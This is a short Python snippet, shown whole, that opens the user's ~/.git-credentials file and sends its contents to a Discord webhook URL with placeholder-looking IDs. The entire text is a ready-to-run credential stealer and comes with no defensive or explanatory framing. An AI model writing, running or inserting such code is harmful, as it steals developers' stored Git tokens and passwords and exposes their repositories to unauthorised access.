import os, requests
creds = open(os.path.expanduser("~/.git-credentials")).read()
requests.post("https://discord.com/api/webhooks/1234/abcd", json={"content": creds})
